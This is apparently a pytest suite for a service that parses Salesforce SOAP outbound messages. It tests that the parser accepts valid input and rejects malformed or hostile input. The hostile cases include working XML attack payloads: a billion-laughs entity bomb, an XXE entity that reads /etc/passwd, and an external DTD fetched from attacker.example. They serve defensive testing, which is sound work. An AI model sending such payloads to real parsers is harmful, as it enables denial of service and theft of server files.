from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.crm_sync.domain.soap import (
    Notification,
    SoapParseError,
    ack_response,
    build_outbound_message,
    parse_outbound_message,
    soap_fault,
)

ORG = "00D5g000004XyZAEA0"
ENVELOPE = """<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" \
xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
 <soapenv:Body>
  <notifications xmlns="http://soap.sforce.com/2005/09/outbound">
   <OrganizationId>{org}</OrganizationId>
   <ActionId>04k5g000000Kz9QAAS</ActionId>
   <SessionId xsi:nil="true"/>
   <EnterpriseUrl>https://acme.my.salesforce.com/services/Soap/c/59.0/00D5g000004XyZA</EnterpriseUrl>
   <PartnerUrl>https://acme.my.salesforce.com/services/Soap/u/59.0/00D5g000004XyZA</PartnerUrl>
{notifications}
  </notifications>
 </soapenv:Body>
</soapenv:Envelope>
"""
NOTIFICATION = """   <Notification>
    <Id>04l5g00000{n:08d}AAA</Id>
    <sObject xsi:type="sf:Opportunity" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">
     <sf:Id>0065g00000{n:08d}AAA</sf:Id>
     <sf:Amount>26500.0</sf:Amount>
     <sf:Cross_Sell_Play_Id__c>play-{n}</sf:Cross_Sell_Play_Id__c>
     <sf:Discovery_Answer_1__c>&quot;Manual reconciliation is killing us&quot; &amp; \
we export to spreadsheets &lt;weekly&gt;</sf:Discovery_Answer_1__c>
     <sf:Executive_Sponsor_Name__c xsi:nil="true"/>
     <sf:LastModifiedById>0055g000003AbCdAAK</sf:LastModifiedById>
     <sf:StageName>Proposal/Price Quote</sf:StageName>
     <sf:Description></sf:Description>
    </sObject>
   </Notification>"""


def message(count: int, org: str = ORG) -> bytes:
    body = "\n".join(NOTIFICATION.format(n=n) for n in range(count))
    return ENVELOPE.format(org=org, notifications=body).encode()


def test_a_full_salesforce_message_parses() -> None:
    parsed = parse_outbound_message(message(100))
    assert parsed.organization_id == ORG
    assert parsed.action_id == "04k5g000000Kz9QAAS"
    assert parsed.session_id is None
    assert parsed.enterprise_url.endswith("/services/Soap/c/59.0/00D5g000004XyZA")
    assert parsed.partner_url.endswith("/services/Soap/u/59.0/00D5g000004XyZA")
    assert len(parsed.notifications) == 100
    assert len({n.id for n in parsed.notifications}) == 100
    first = parsed.notifications[0]
    assert first.id == "04l5g0000000000000AAA"
    assert first.sobject_type == "Opportunity"
    assert first.fields == {
        "Id": "0065g0000000000000AAA",
        "Amount": "26500.0",
        "Cross_Sell_Play_Id__c": "play-0",
        "Discovery_Answer_1__c": (
            '"Manual reconciliation is killing us" & we export to spreadsheets <weekly>'
        ),
        "Executive_Sponsor_Name__c": None,
        "LastModifiedById": "0055g000003AbCdAAK",
        "StageName": "Proposal/Price Quote",
        "Description": "",
    }


def test_more_than_100_notifications_are_refused() -> None:
    with pytest.raises(SoapParseError, match="too many notifications"):
        parse_outbound_message(message(101))


def test_session_id_is_read_when_sent() -> None:
    body = message(1).replace(b'<SessionId xsi:nil="true"/>', b"<SessionId>00D!AQ4A</SessionId>")
    assert parse_outbound_message(body).session_id == "00D!AQ4A"


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">
<soapenv:Body><lolz>&lol9;</lolz></soapenv:Body></soapenv:Envelope>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>
<notifications xmlns="http://soap.sforce.com/2005/09/outbound">
<OrganizationId>&xxe;</OrganizationId></notifications></soapenv:Body></soapenv:Envelope>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/evil.dtd">
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"/>"""

PLAIN_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE soapenv:Envelope [<!ELEMENT soapenv:Envelope ANY>]>
""" + message(1).split(b"?>", 1)[1]


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (BILLION_LAUGHS, "DTD not allowed"),
        (XXE, "DTD not allowed"),
        (EXTERNAL_DTD, "DTD not allowed"),
        (PLAIN_DTD, "DTD not allowed"),
        (b"<soapenv:Envelope", "malformed XML"),
        (b"not xml at all", "malformed XML"),
        (message(2)[:-40], "malformed XML"),
        (b"", "empty body"),
        (b"<Envelope/>", "not a SOAP 1.1 envelope"),
        (
            message(1).replace(
                b"http://schemas.xmlsoap.org/soap/envelope/",
                b"http://www.w3.org/2003/05/soap-envelope",
            ),
            "not a SOAP 1.1 envelope",
        ),
        (
            message(1).replace(b"http://soap.sforce.com/2005/09/outbound", b"urn:evil"),
            "not an outbound message",
        ),
        (
            message(1).replace(b"urn:sobject.enterprise.soap.sforce.com", b"urn:other"),
            "outside the sObject namespace",
        ),
        (message(0), "no notifications"),
        (message(1, org=""), "missing OrganizationId"),
        (message(1).replace(b"<Id>04l5g0000000000000AAA</Id>", b"<Id> </Id>"), "without Id"),
        (message(1).replace(b' xsi:type="sf:Opportunity"', b""), "without xsi:type"),
        (
            message(1).replace(b"<sf:Amount>", b"<sf:StageName>x</sf:StageName><sf:Amount>"),
            "repeated",
        ),
        (b'<?xml version="1.0" encoding="bogus"?><a/>', "malformed XML"),
    ],
)
def test_hostile_or_wrong_bodies_are_refused_quickly(body: bytes, reason: str) -> None:
    started = time.perf_counter()
    with pytest.raises(SoapParseError) as caught:
        parse_outbound_message(body)
    assert reason in caught.value.reason
    assert time.perf_counter() - started < 0.5


def test_oversize_body_is_refused_before_parsing() -> None:
    huge = message(1) + b" " * (1024 * 1024)
    with pytest.raises(SoapParseError, match="larger than 1048576 bytes"):
        parse_outbound_message(huge)
    with pytest.raises(SoapParseError, match="larger than 100 bytes"):
        parse_outbound_message(message(1), max_bytes=100)


def test_deep_nesting_under_the_size_limit_is_refused_without_crashing() -> None:
    deep = b"<a>" * 120_000 + b"</a>" * 120_000
    assert len(deep) < 1024 * 1024
    with pytest.raises(SoapParseError, match="not a SOAP 1.1 envelope"):
        parse_outbound_message(deep)


def test_ack_body_is_exactly_what_salesforce_expects() -> None:
    assert ack_response() == (
        b'<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
        b"<soapenv:Body>"
        b'<notificationsResponse xmlns="http://soap.sforce.com/2005/09/outbound">'
        b"<Ack>true</Ack></notificationsResponse></soapenv:Body></soapenv:Envelope>"
    )
    assert b"<Ack>false</Ack>" in ack_response(False)


def test_fault_escapes_the_reason() -> None:
    fault = soap_fault("organization <00Dx> & friends not allowed")
    assert b"<faultcode>soapenv:Client</faultcode>" in fault
    assert (
        b"<faultstring>organization &lt;00Dx&gt; &amp; friends not allowed</faultstring>" in fault
    )
    assert b"soapenv:Server" in soap_fault("database unavailable", server=True)


def test_built_message_parses_to_what_was_built() -> None:
    notes = [
        Notification(
            id="04l000000000001AAA",
            sobject_type="Opportunity",
            fields={"Id": "006000000000001AAA", "StageName": "Closed Won", "Amount": None},
        )
    ]
    body = build_outbound_message(
        organization_id=ORG,
        action_id="04k000000000001AAA",
        notifications=notes,
        enterprise_url="https://emu.local/services/Soap/c/59.0",
        partner_url="https://emu.local/services/Soap/u/59.0",
    )
    parsed = parse_outbound_message(body)
    assert parsed.notifications == notes
    assert parsed.organization_id == ORG


field_text = st.text(
    alphabet=st.characters(
        blacklist_categories=("Cs",),
        blacklist_characters="\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11"
        "\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f\ufffe\uffff",
    ),
    max_size=200,
)
field_name = st.from_regex(r"[A-Za-z][A-Za-z0-9_]{0,39}", fullmatch=True)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.from_regex(r"04l[A-Za-z0-9]{15}", fullmatch=True),
            st.dictionaries(field_name, st.none() | field_text, max_size=8),
        ),
        min_size=1,
        max_size=5,
    )
)
def test_round_trip_keeps_every_value(items: list[tuple[str, dict[str, str | None]]]) -> None:
    notes = [Notification(id=i, sobject_type="Opportunity", fields=v) for i, v in items]
    body = build_outbound_message(organization_id=ORG, action_id="04k1", notifications=notes)
    assert parse_outbound_message(body).notifications == notes


@settings(max_examples=500, deadline=None)
@given(st.binary(max_size=2048))
def test_arbitrary_bytes_only_ever_raise_soap_parse_error(body: bytes) -> None:
    try:
        parse_outbound_message(body)
    except SoapParseError:
        pass


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_mutated_messages_only_ever_raise_soap_parse_error(data: st.DataObject) -> None:
    body = bytearray(message(2))
    for _ in range(data.draw(st.integers(1, 8))):
        index = data.draw(st.integers(0, len(body) - 1))
        body[index] = data.draw(st.integers(0, 255))
    try:
        parse_outbound_message(bytes(body))
    except SoapParseError:
        pass
